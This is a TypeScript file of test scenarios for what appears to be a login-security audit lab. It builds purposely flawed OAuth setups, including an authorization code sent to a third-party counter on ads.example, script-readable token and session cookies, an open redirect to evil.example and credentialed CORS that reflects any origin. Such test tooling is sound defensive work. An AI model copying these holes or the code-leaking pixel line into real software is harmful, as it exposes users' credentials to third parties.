/** Logins that work and could be robbed: what the answers of app and provider say, and who hears of them. */
import { until } from '../../drivers/wait.ts';
import { adsOrigin, evilOrigin } from '../hosts.ts';
import { beforeHeaders, targetOf } from '../http.ts';
import type { Lab, Scenario, Site } from '../model.ts';
import { callbackOf, callbackReached, check, enterPassword, scenario, shows, signInBesideWorker } from './define.ts';

const works = { headline: null, thirdPartyCookies: 'block', outcome: 'completed', ends: 'signed-in' } as const;
const weak = { ...works, profile: 'auditor' } as const;

type Layer = (...exchange: Parameters<ReturnType<NonNullable<Scenario['appFault']>>>) => void;

/** Changes the callback's answer and lets it pass. */
function onCallback(change: Layer): NonNullable<Scenario['appFault']> {
  return (site) => {
    const { pathname } = new URL(site.callbackUrl);
    return (req, res) => {
      if (targetOf(req).pathname === pathname) change(req, res);
      return false;
    };
  };
}

/** Remembers where the link of the login says to go on to, and goes there afterwards. */
const goesWhereTold: NonNullable<Scenario['appFault']> = (site: Site) => {
  let wanted: string | null = null;
  return (req, res) => {
    const target = targetOf(req);
    wanted = target.searchParams.get('returnTo') ?? wanted;
    if (target.pathname === new URL(site.callbackUrl).pathname)
      beforeHeaders(res, () => {
        if (wanted !== null && res.getHeader('location') === '/account') res.setHeader('Location', wanted);
      });
    return false;
  };
};

const counted = (lab: Lab, what: RegExp) => lab.seen.at('ads.example').some((seen) => what.test(seen.target));

export const auditorAnswers = [
  scenario({
    ...works,
    id: 'code-to-counter',
    family: 'token-placement',
    title: 'Code told to a counter',
    story: 'The callback is a page with a visitor counter: its script tells the counter the address of the page, code and all.',
    headline: 'credential-to-third-party',
    app: {
      kind: 'server',
      landing: 'page',
      callbackPart: (_site, { ports }) =>
        `<img id="counter" alt="" width="1" height="1"><script>document.querySelector('#counter').src = '${adsOrigin(ports)}/pixel.gif?dl=' + encodeURIComponent(location.href)</script>`,
    },
    proof: async (_page, lab) => {
      await until('the counter to be told', async () => counted(lab, /dl=https.*code%3D/));
    },
  }),
  scenario({
    ...weak,
    id: 'counter-on-callback',
    family: 'token-placement',
    title: 'Foreign script on the callback page',
    story: 'The callback is a page that loads the script of a visitor counter while the code is in its address.',
    also: ['callback-third-party-content'],
    app: {
      kind: 'server',
      landing: 'page',
      callbackPart: (_site, { ports }) => `<script src="${adsOrigin(ports)}/counter.js"></script>`,
    },
    proof: (page) => page.waitFor(() => document.documentElement.dataset['counted'] === 'yes'),
  }),
  scenario({
    ...weak,
    id: 'token-in-cookie',
    family: 'token-placement',
    title: 'Access token in a cookie for scripts',
    story: 'The app’s server writes the access token into a cookie without HttpOnly.',
    also: ['token-exposed-to-script', 'implicit-flow'],
    app: { kind: 'server', responseType: 'id_token token', tokenCookie: 'access_token' },
    proof: (page) => page.waitFor(() => document.cookie.includes('access_token=')),
  }),
  scenario({
    ...weak,
    id: 'session-for-scripts',
    family: 'cookies',
    title: 'Session cookie without protection',
    story: 'The session cookie has neither HttpOnly nor SameSite.',
    also: ['session-cookie-flags'],
    app: { kind: 'server', session: { httpOnly: false, sameSite: null } },
    proof: (page) => page.waitFor(() => document.cookie.includes('app_session=')),
  }),
  scenario({
    ...weak,
    id: 'sign-in-framed-by-anyone',
    family: 'request',
    title: 'Sign-in page that anybody may frame',
    story: 'The provider’s sign-in page has a Content-Security-Policy that says nothing about frames.',
    also: ['clickjacking-unprotected'],
    app: { kind: 'server' },
    tenant: { policy: "object-src 'none'" },
    proof: (_page, lab) => {
      const pages = lab.seen
        .at('sign-in-framed-by-anyone.idp.example')
        .filter((seen) => /html/.test(String(seen.answered['content-type'])));
      check(pages.length > 0, 'The provider showed no page.');
      check(!pages.some((seen) => /frame-ancestors/.test(JSON.stringify(seen.answered))), 'The page forbids to be framed.');
    },
  }),
  scenario({
    ...weak,
    id: 'callback-kept',
    family: 'callback',
    title: 'Callback page that may be kept',
    story: 'The callback is a page that says of itself that it is good for an hour.',
    also: ['sensitive-response-cacheable'],
    app: { kind: 'server', landing: 'page' },
    appFault: onCallback((_req, res) => res.setHeader('Cache-Control', 'private, max-age=3600')),
    proof: async (page, lab) => {
      const { target, answered } = callbackOf(lab, 'callback-kept');
      check(/max-age=3600/.test(String(answered['cache-control'])), 'The page may not be kept.');
      check((await page.url()).endsWith(target), 'The code is no longer in the address.');
    },
  }),
  scenario({
    ...weak,
    id: 'session-in-cookies',
    family: 'size',
    title: 'Answer with two full cookies',
    story: 'The callback sets two session cookies of 4000 bytes each; no proxy stands in front of the app to object.',
    also: ['response-headers-too-large'],
    app: { kind: 'server', session: { bytes: 4_000 } },
    appFault: onCallback((_req, res) => res.appendHeader('Set-Cookie', `app_roles=${'CANARYrole'.repeat(395)}; Path=/; Secure`)),
    proof: (_page, lab) =>
      check(JSON.stringify(callbackOf(lab, 'session-in-cookies').answered['set-cookie']).length > 8_000, 'The answer is small.'),
  }),
  scenario({
    ...weak,
    id: 'return-to-stranger',
    family: 'callback',
    title: 'Login link that leads to a stranger',
    story: 'The app goes on to whatever address the login link named, and this link names another site.',
    also: ['post-login-open-redirect'],
    app: { kind: 'server' },
    appFault: goesWhereTold,
    start: (lab) => `${lab.site('return-to-stranger').origin}/login?returnTo=${encodeURIComponent(`${evilOrigin(lab.ports)}/offer`)}`,
    drive: async (page) => {
      await enterPassword(page);
      await page.click('#allow');
    },
    ends: 'error',
    proof: (page) => page.waitForUrl(/evil\.example.*\/offer/),
  }),
  scenario({
    ...weak,
    id: 'callback-for-scripts',
    family: 'callback',
    title: 'Callback that other sites’ scripts may read',
    story: 'A filter in front of the app sends back every Origin it is given and allows credentials, on the callback too.',
    also: ['cors-on-front-channel'],
    app: { kind: 'server', responseMode: 'form_post', transaction: { sameSite: 'None' }, landing: 'page' },
    appFault: onCallback((req, res) => {
      res.setHeader('Access-Control-Allow-Origin', req.headers.origin ?? '*');
      res.setHeader('Access-Control-Allow-Credentials', 'true');
    }),
    proof: (_page, lab) =>
      check(
        String(callbackOf(lab, 'callback-for-scripts').answered['access-control-allow-origin']).includes('idp.example'),
        'The provider’s pages may not read it.',
      ),
  }),
  scenario({
    thirdPartyCookies: 'block',
    id: 'worker-keeps-callback',
    family: 'callback',
    title: 'Callback that never leaves the browser',
    story: 'The app’s service worker answers the callback with the start page it has kept, so the server never sees the code.',
    headline: null,
    also: ['callback-service-worker'],
    app: { kind: 'server', worker: 'keeps-callback' },
    drive: signInBesideWorker,
    ends: 'signed-out',
    proof: async (page, lab) => {
      await shows(page, /Sign in/);
      check(!callbackReached(lab, 'worker-keeps-callback'), 'The server saw the callback.');
    },
  }),
];
